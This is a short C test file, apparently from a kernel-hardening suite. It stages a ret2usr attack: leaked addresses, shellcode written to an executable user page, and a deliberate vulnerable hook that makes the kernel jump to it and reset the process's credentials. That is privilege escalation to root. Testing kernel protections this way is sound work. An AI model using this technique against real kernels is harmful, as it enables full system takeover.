/* ret2usr with code: the kernel jumps to machine code in a user page. */
#include <stdio.h>
#include <sys/mman.h>

#include "attack.h"

int main(void)
{
	struct bw_leak leak;

	attack_leak(&leak);

	void *page = attack_pages(BW_PAGE_SIZE);
	size_t nr_bytes = payload_shellcode(page, &leak);

	if (mprotect(page, BW_PAGE_SIZE, PROT_READ | PROT_EXEC) != 0) {
		attack_skip("no executable page to be had");
	}
	attack_say("%zu bytes of code at 0x%lx, a user address", nr_bytes, (uintptr_t)page);
	attack_say("they call the kernel's credentials_set(0x%lx, 0)", leak.process);
	attack_check("vuln_jump", bw_vuln_jump((uintptr_t)page));
	return attack_finish();
}
